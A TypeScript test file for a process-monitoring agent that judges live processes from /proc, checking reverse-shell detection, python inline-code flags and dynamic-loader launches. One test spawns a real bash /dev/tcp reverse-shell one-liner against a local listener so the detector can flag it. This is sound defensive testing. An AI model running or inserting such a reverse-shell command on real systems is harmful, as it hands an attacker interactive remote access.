// Context on learned programs with real processes on the real kernel: what the judge is given
// is read from /proc (exe link, cmdline, cwd, fds 0-2 through stdio.ts) the way the netlink and
// scan sources read it, and judged by context.ts. A bash /dev/tcp reverse shell to a local
// listener, `python3 -c` from a learned python, `python3 -m`, a service whose stdout is a unix
// socket, and the loader launching a fresh binary.
import test from 'ava';
import { spawn, type ChildProcess, type StdioOptions } from 'node:child_process';
import { copyFile, mkdtemp, readFile, rm } from 'node:fs/promises';
import { existsSync, readlinkSync } from 'node:fs';
import { createServer, connect, type Socket } from 'node:net';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { judgeContext, type ContextVerdict } from '../../agent/processes/context.js';
import { createStdioReader } from '../../agent/processes/stdio.js';
import { parseCmdline } from '../../agent/facts/proc.js';
import { PROC_INLINE_CODE_CHECK, PROC_REVERSE_SHELL_CHECK } from '../../proto/process-checks.js';
import { executable, needs } from '../helpers/requirements.js';

const stdio = createStdioReader('/proc');

/** Polls until the process's argv is `argv` (its exec, with its redirections, happened). */
async function running(pid: number, argv: readonly string[]): Promise<void> {
  for (let i = 0; i < 500; i++) {
    try {
      if (JSON.stringify(parseCmdline(await readFile(`/proc/${pid}/cmdline`))) === JSON.stringify(argv)) return;
    } catch {
      // not yet
    }
    await new Promise((res) => setTimeout(res, 10));
  }
  throw new Error(`pid ${pid} never ran ${argv.join(' ')}`);
}

/** Judges a live process from what /proc says about it. */
async function judgeLive(pid: number, learnedInline: boolean): Promise<ContextVerdict> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8');
  const [, uid, euid] = /^Uid:\s+(\d+)\s+(\d+)/m.exec(status)!;
  return judgeContext({
    exe: readlinkSync(`/proc/${pid}/exe`), argv: parseCmdline(await readFile(`/proc/${pid}/cmdline`)), stdio: stdio.read(pid),
    uid: Number(uid), euid: Number(euid), cwd: readlinkSync(`/proc/${pid}/cwd`),
  }, { learnedInline });
}

function started(cmd: string, args: string[], opts: { stdio?: StdioOptions; cwd?: string } = {}): ChildProcess {
  const child = spawn(cmd, args, { stdio: opts.stdio ?? 'ignore', ...(opts.cwd ? { cwd: opts.cwd } : {}) });
  child.on('error', () => undefined);
  return child;
}

const checks = (v: ContextVerdict) => v.findings.map((f) => f.checkId);

test('a bash /dev/tcp reverse shell to a local listener is proc-reverse-shell, learned inline or not', async (t) => {
  const server = createServer();
  const peers: Socket[] = [];
  server.on('connection', (s) => peers.push(s.on('error', () => undefined)));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const port = (server.address() as { port: number }).port;
  // The outer bash opens the connection, points 0, 1, 2 at it and execs an interactive bash.
  const shell = started('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
  t.teardown(() => {
    shell.kill('SIGKILL');
    for (const p of peers) p.destroy();
    server.close();
  });
  await running(shell.pid!, ['bash', '-i']);
  for (const learned of [true, false]) {
    const v = await judgeLive(shell.pid!, learned);
    t.deepEqual(checks(v), [PROC_REVERSE_SHELL_CHECK.id]);
    t.like(v.findings[0], { interpreter: 'bash', fds: [0, 1, 2], severity: 'critical' });
  }
});

test('a service whose stdout and stderr are a unix socket (journald\'s way) is not a reverse shell', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'nodeward-ctx-'));
  const server = createServer((s) => s.on('error', () => undefined));
  server.listen(join(dir, 'journal.sock'));
  await once(server, 'listening');
  const out = connect(join(dir, 'journal.sock'));
  await once(out, 'connect');
  const service = started('bash', ['-c', 'exec sleep 60'], { stdio: ['ignore', out, out] });
  t.teardown(async () => {
    service.kill('SIGKILL');
    out.destroy();
    server.close();
    await rm(dir, { recursive: true, force: true });
  });
  await running(service.pid!, ['sleep', '60']);
  t.deepEqual(stdio.read(service.pid!).map((f) => f.family ?? f.kind), ['chardev', 'unix', 'unix']);
  // bash -c itself: inline code, which a service that learned it runs without a finding.
  const asBash = judgeContext({ exe: '/usr/bin/bash', argv: ['bash', '-c', 'exec sleep 60'], stdio: stdio.read(service.pid!), uid: 0, euid: 0 }, { learnedInline: true });
  t.deepEqual(checks(asBash), []);
});

const pyTest = needs({ what: 'Python 3', packages: ['python3-minimal'], check: () => executable('/usr/bin/python3') });

pyTest('python3 -c from a learned python is proc-inline-code unless the baseline learned inline code; python3 -m is not', async (t) => {
  const inline = started('/usr/bin/python3', ['-c', 'import time; time.sleep(60)']);
  const module = started('/usr/bin/python3', ['-m', 'http.server', '--bind', '127.0.0.1', '0']);
  t.teardown(() => {
    inline.kill('SIGKILL');
    module.kill('SIGKILL');
  });
  await running(inline.pid!, ['/usr/bin/python3', '-c', 'import time; time.sleep(60)']);
  await running(module.pid!, ['/usr/bin/python3', '-m', 'http.server', '--bind', '127.0.0.1', '0']);
  const never = await judgeLive(inline.pid!, false);
  t.deepEqual(checks(never), [PROC_INLINE_CODE_CHECK.id]);
  t.like(never.findings[0], { interpreter: 'python', flag: '-c', severity: 'medium' });
  t.regex(never.program!, /\/python3\.\d+$/, 'the exe link names the real file, and it is still python');
  t.deepEqual(checks(await judgeLive(inline.pid!, true)), []);
  t.true((await judgeLive(inline.pid!, true)).inline, 'learning records that this exec ran inline code');
  const mod = await judgeLive(module.pid!, false);
  t.deepEqual(checks(mod), []);
  t.false(mod.inline);
});

const LOADER = ['/lib64/ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1'].find((p) => existsSync(p));
const loaderTest = needs({ what: 'the glibc dynamic loader', packages: ['libc6'], check: () => LOADER !== undefined || 'no known loader path' });

loaderTest('the loader launching a fresh binary is judged as that binary (absolute and relative to the cwd)', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'nodeward-ctx-'));
  const fresh = join(dir, 'payload');
  await copyFile('/bin/sleep', fresh);
  const abs = started(LOADER!, [fresh, '60']);
  const rel = started(LOADER!, ['--inhibit-cache', './payload', '61'], { cwd: dir });
  t.teardown(async () => {
    abs.kill('SIGKILL');
    rel.kill('SIGKILL');
    await rm(dir, { recursive: true, force: true });
  });
  await running(abs.pid!, [LOADER!, fresh, '60']);
  await running(rel.pid!, [LOADER!, '--inhibit-cache', './payload', '61']);
  // The kernel ran the loader: the exe link names it, not the payload.
  t.regex(readlinkSync(`/proc/${abs.pid}/exe`), /ld-linux/);
  const a = await judgeLive(abs.pid!, false);
  t.is(a.program, fresh);
  t.deepEqual(a.argv, [fresh, '60']);
  const r = await judgeLive(rel.pid!, false);
  t.is(r.program, fresh);
  t.deepEqual(r.argv, ['./payload', '61']);
});
